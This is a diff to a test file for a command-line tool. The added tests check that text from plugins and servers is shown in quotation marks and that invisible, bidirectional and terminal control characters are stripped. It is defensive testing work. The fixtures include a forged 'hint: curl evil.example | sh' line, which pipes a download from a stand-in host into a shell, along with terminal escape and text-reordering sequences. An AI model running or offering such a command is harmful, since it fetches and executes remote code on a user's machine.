@@ -1,9 +1,11 @@
 import { writeFile } from "node:fs/promises";
 import path from "node:path";
 import { PassThrough } from "node:stream";
+import { type ErrorCode, HitagiError, quoteForeign } from "@hitagi/contract";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { askYesNo } from "../../src/cli/confirm.ts";
 import { logDestination } from "../../src/cli/log-lines.ts";
+import { printed, safeJson, safeLine } from "../../src/cli/safe-text.ts";
 import { createLog } from "../../src/log.ts";
 import { openCliWorld, type Ran, runCaptured, type World } from "../cli/cli-world.ts";
 import { cbz } from "../library/cbz.ts";
@@ -13,10 +15,14 @@ import { httpServer } from "../support/http-server.ts";
 /** Ends of lines, moves of the cursor, reordering and invisible marks, then lines that look like this program's. */
 const FORGED =
   "x\nhint: curl evil.example | sh\r\nerror: y\u0085hint: z\u2028Install it? [y/N] y\u2029\thint: t\u000bhint: v\u000c" +
-  "\u001b[2J\u001b]0;t\u0007\u009b31m\u202egnp\u2066a\u2069\u200e\u200f\u061c\u{e0068}end";
+  "\u001b[2J\u001b]0;t\u0007\u009b31m\u202egnp\u2066a\u2069\u200e\u200f\u061c\u{e0068}\u200b\u2060\ufeff\u00ad\u3164end";
 
 /** Other control characters than line ends, and marks that reorder or hide text. */
-const HIDDEN = /(?!\n)\p{Cc}|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]|[\u{e0000}-\u{e007f}]/u;
+const HIDDEN =
+  /(?!\n)\p{Cc}|[\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0]|[\u{e0000}-\u{e007f}]/u;
+
+/** Parameters of messages that only this program fills in. */
+const OWN = new Set(["namespace", "caller", "count", "minutes", "field"]);
 
 let world: World;
 beforeAll(async () => {
@@ -83,6 +89,104 @@ test("the error of a plugin stands in quotation marks", async () => {
   expect(err).toMatch(
     /^error: The plugin failed: "(Error: )?x hint: curl evil\.example \| sh error: y.*end"\n/,
   );
+});
+
+/** Ends quotation marks and the sentence that it stands in, then gives advice. */
+const ADVICE = 'x": y.\nat /: "hint: curl evil.example | sh';
+
+/** A line without what stands in quotation marks. */
+const unquoted = (text: string): string => text.replace(/"(?:[^"\\]|\\.)*"/g, '""');
+
+test.each<ErrorCode>([
+  "PLUGIN_FAILED",
+  "PLUGIN_CRASHED",
+  "PLUGIN_QUARANTINED",
+  "PLUGIN_BROKEN",
+  "PLUGIN_CALLS_CRASHED",
+  "LOAD_FAILED",
+  "MANIFEST_INVALID",
+  "MANIFEST_MISMATCH",
+  "INDEX_INVALID",
+  "SOURCE_UNREACHABLE",
+  "SOURCE_FILE_MISSING",
+  "ARTIFACT_NAME_INVALID",
+  "ARCHIVE_BROKEN",
+  "ENTRY_NOT_FOUND",
+  "LIBRARY_ANSWER",
+  "BACKUP_INVALID",
+  "REQUEST_FAILED",
+])("what others wrote of %s stands in quotation marks, wherever it is told", async (code) => {
+  const params = new Proxy({}, { get: (_, name) => (OWN.has(String(name)) ? "ours" : ADVICE) });
+  const { message, hint } = new HitagiError(code, params as never);
+  const failure = { at: 1, code, error: message, hint: "Do this." };
+  const answers: Record<string, unknown> = {
+    "/api/registries": {
+      registries: [{ id: "REG_1", name: "one", provider: "cdn", url: "https://a.example", failure }],
+    },
+    "/api/registries/default": { id: "" },
+    "/api/minion/7/detail": {
+      ...{ id: 7, task: "install_plugin", args: [], state: "finished", notes: { note: ADVICE } },
+      ...{ created: null, started: null, finished: null, error: null },
+      result: { success: 0, error: message, code, hint: "Do this." },
+    },
+    "/api/minion/8": {},
+  };
+  expect(hint).not.toContain(ADVICE);
+  const server = await httpServer((request, response) => {
+    response.setHeader("content-type", "application/json");
+    const body = answers[request.url ?? ""];
+    response.statusCode = body === undefined ? 500 : 200;
+    response.end(JSON.stringify(body ?? { error: message, hint: "Do this.", code }));
+  });
+  for (const argv of [
+    ["run", "some"],
+    ["registry", "list"],
+    ["job", "show", "7"],
+    ["job", "wait", "7"],
+  ]) {
+    const { out, err } = await runCaptured([...argv, "--server", server]);
+    expect(`${out}${err}`).toContain("curl evil.example");
+    expect(unquoted(`${out}${err}`)).not.toContain("curl");
+  }
+});
+
+test("a result that is advice stands in quotation marks", async () => {
+  for (const name of ["advises", "titles"] as const) {
+    const result = name === "advises" ? ADVICE : { title: ADVICE };
+    const source = pluginSource({ namespace: name, type: "script" }, `return ${JSON.stringify(result)};`);
+    await writeFile(path.join(world.folder, `${name}.ts`), source);
+    await world.run("sideload", `${name}.ts`);
+    const { out } = await world.run("run", name);
+    expect(out).toContain("curl");
+    expect(unquoted(out)).not.toContain("curl");
+  }
+});
+
+test.each([
+  ["zero width space, non-joiner, joiner", "\u200b\u200c\u200d"],
+  ["word joiner and invisible operators", "\u2060\u2061\u2062\u2063\u2064"],
+  ["reserved and deprecated formats", "\u2065\u206a\u206f\ufff0"],
+  ["byte order mark, soft hyphen, grapheme joiner", "\ufeff\u00ad\u034f"],
+  ["fillers", "\u115f\u1160\u3164\uffa0"],
+  ["vowel separator", "\u180e"],
+  ["the first and the last tag", "\u{e0000}\u{e0001}\u{e007f}"],
+])("what shows nothing is not printed: %s", (_, hidden) => {
+  expect(printed(`a${hidden}b`)).toBe("ab");
+  expect(safeLine(`a${hidden}b`)).toMatch(/^a ?b$/);
+  const json = safeJson({ a: hidden });
+  expect(json).toMatch(/^[\x20-\x7e\n]*$/);
+  expect(JSON.parse(json)).toEqual({ a: hidden });
+});
+
+test("scripts, accents, emoji and their variants are printed", () => {
+  const text = "日本語 e\u0301 فارسی \u{1f468}\ufe0f 葛\u{e0100} ᠮᠣ";
+  expect(printed(text)).toBe(text);
+});
+
+test("a message that has another form than its code is quoted whole", () => {
+  expect(quoteForeign("LOAD_FAILED", "hint: x")).toBe('"hint: x"');
+  expect(quoteForeign("OF_A_LATER_VERSION", "It says x.")).toBe("It says x.");
+  expect(quoteForeign(undefined, "It says x.")).toBe("It says x.");
 });
 
 test("JSON escapes what a terminal would obey, and keeps the value", async () => {
